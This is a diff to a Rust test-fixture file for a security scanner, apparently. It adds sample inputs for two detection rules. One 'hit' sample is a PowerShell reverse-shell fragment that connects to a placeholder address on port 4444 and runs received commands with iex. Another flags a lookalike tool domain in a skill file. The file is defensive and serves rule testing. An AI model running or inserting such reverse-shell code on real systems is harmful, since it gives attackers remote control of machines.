@@ -394,4 +394,26 @@ pub(super) const SAMPLES: &[RuleSamples] = &[
             "Get-MpPreference\nnetsh advfirewall show allprofiles\n",
         )],
     },
+    RuleSamples {
+        rule: "remote-execution/socket-shell",
+        hits: &[(
+            "run.ps1",
+            "$c = New-Object Net.Sockets.TCPClient('203.0.113.7', 4444)\n$s = $c.GetStream()\n$r = (iex $d 2>&1 | Out-String)\n",
+        )],
+        misses: &[(
+            "run.ps1",
+            "$c = New-Object Net.Sockets.TCPClient('203.0.113.7', 443)\n$c.Connected\n",
+        )],
+    },
+    RuleSamples {
+        rule: "deception/impostor-host",
+        hits: &[(
+            "SKILL.md",
+            "# Slack\n\nSee https://openclaw-cli.forum/ for the tool.\n",
+        )],
+        misses: &[(
+            "SKILL.md",
+            "# Slack\n\nSee https://docs.openclaw.ai/ for the tool.\n",
+        )],
+    },
 ];
